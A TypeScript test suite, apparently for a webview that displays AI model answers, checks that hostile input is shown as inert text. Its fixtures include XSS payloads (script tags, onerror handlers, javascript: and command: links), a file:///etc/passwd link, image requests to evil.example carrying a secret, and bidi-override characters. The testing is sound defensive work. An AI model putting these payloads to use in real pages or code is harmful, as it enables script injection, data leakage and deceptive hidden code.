import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startHarness } from './harness.ts';
import type { Harness } from './harness.ts';
import { headFor, shownOf, stamp, textTrace } from './traces.ts';

let harness: Harness;
before(async () => {
  harness = await startHarness();
});
after(() => harness.close());

const HOSTILE = `<script>window.pwned = 1</script>

<img src=x onerror="window.pwned = 1"> and <svg onload="window.pwned = 1"></svg>

<style>body { display: none }</style>

![a picture](https://evil.example/track.png?secret=1) and ![](data:text/html,<script>pwned=1</script>)

[run](command:workbench.action.terminal.new) [js](javascript:window.pwned=1) [file](file:///etc/passwd) [code](vscode://x/y) [data](data:text/html,x) [good](https://example.com/a?b=1)

<https://example.org/auto> <iframe src="https://evil.example/"></iframe>

| a | <b onclick="pwned=1">b</b> |
|---|---|
| 1 | ![x](http://evil.example/2.png) |

\`\`\`html
<script>window.pwned = 1</script>
\`\`\`

$\\href{javascript:window.pwned=1}{x^2}$ and $$\\includegraphics{https://evil.example/3.png}$$

An override \u202etxt.exe\u202c and a zero\u200bwidth character and a tag \u{e0041}.`;

test('hostile text sends nothing, runs nothing, and is shown as the text that it is', async () => {
  const view = await harness.open({
    ...textTrace('<img src=x onerror=alert(1)> [x](command:y)', HOSTILE, HOSTILE),
    width: 1400,
    height: 2000,
  });
  const { page } = view;
  await page.getByRole('treeitem').first().waitFor();
  await page.locator('[role="treeitem"]').first().focus();
  await page.evaluate(() =>
    document.querySelectorAll<HTMLElement>('[data-step][aria-expanded="false"] .gist').forEach((row) => row.click()),
  );
  await page.waitForTimeout(1200);
  assert.deepEqual(view.strayRequests, []);
  assert.equal(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned), undefined);
  assert.equal(await page.locator('#app :is(script, iframe, img, svg, style, object, embed, form[action])').count(), 0);
  const hrefs = await page.locator('#app a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
  assert.deepEqual([...new Set(hrefs)].sort(), ['https://example.com/a?b=1', 'https://example.org/auto']);
  const answer = await page.getByRole('region', { name: 'Answer' }).innerText();
  for (const words of [
    '<script>',
    'onerror=',
    'https://evil.example/track.png?secret=1',
    'command:workbench.action.terminal.new',
    'javascript:window.pwned=1',
    'U+202E',
    'U+200B',
    'U+E0041',
  ])
    assert.ok(answer.includes(words), `${words} is readable`);
  await page.locator('.answer a').first().click();
  assert.deepEqual(await view.calls(), [{ name: 'openLink', argument: { href: 'https://example.com/a?b=1' } }]);
  assert.ok(page.url().startsWith('http://127.0.0.1'), 'the page stays');
  assert.deepEqual(
    view.complaints.filter((line) => !line.includes('pwned')),
    [],
  );
  await view.close();
});

test('copied and inserted code spells hidden characters out', async () => {
  const view = await harness.open(textTrace('code', 'Think.', 'Here:\n\n```js\nif (a) { // \u202e }\n```\n'));
  await view.page.getByRole('button', { name: 'Copy', exact: true }).click();
  await view.page.getByRole('button', { name: 'Insert' }).click();
  assert.deepEqual(await view.calls(), [
    { name: 'copy', argument: { text: 'if (a) { // [U+202E] }' } },
    { name: 'insertCode', argument: { text: 'if (a) { // [U+202E] }' } },
  ]);
  await view.close();
});

test('any text at all is drawn', async () => {
  const texts = [
    '',
    'x'.repeat(200_000),
    '>'.repeat(5000) + ' deep',
    `${'- '.repeat(3000)}deep`,
    '```\n'.repeat(2000),
    '\ud800\udc00\ud800 lone \udfff',
    `${'['.repeat(3000)}${'*'.repeat(3000)}`,
    `${'| a '.repeat(500)}|\n${'|---'.repeat(500)}|\n${'| b '.repeat(500)}|`,
    '\u0000\u0001\u202e',
    `$${'{'.repeat(500)}$`,
  ];
  for (const text of texts) {
    const view = await harness.open(textTrace('any', text, text));
    await view.page.locator('[role="status"][data-state="done"]').waitFor({ state: 'attached' });
    await view.page.waitForTimeout(150);
    assert.deepEqual(view.complaints, [], JSON.stringify(text.slice(0, 20)));
    assert.equal(await view.page.getByRole('region', { name: 'Answer' }).count(), 1);
    await view.close();
  }
});

test('hostile names of models, endpoints, chips and failures are text', async () => {
  const evil = '<img src=x onerror="window.pwned=1">\u202e';
  const head = headFor(evil);
  const view = await harness.open({
    shown: { ...shownOf({ ...head, request: { ...head.request, model: evil, endpoint: evil } }), label: evil, notice: evil },
    events: stamp([
      { type: 'model', model: evil },
      { type: 'error', failure: { code: 'server', message: evil, detail: evil } },
    ]),
    composer: {
      model: evil,
      effort: 'low',
      context: [{ id: '1', kind: 'file', label: evil, preview: evil }],
      canAsk: true,
      missing: null,
      followUp: null,
    },
  });
  await view.page.getByRole('button', { name: 'Ask Again' }).waitFor();
  assert.equal(await view.page.locator('img').count(), 0);
  assert.deepEqual(view.strayRequests, []);
  assert.ok((await view.page.locator('.hidden-character').count()) >= 6, 'the override is visible wherever it stands');
  await view.close();
});
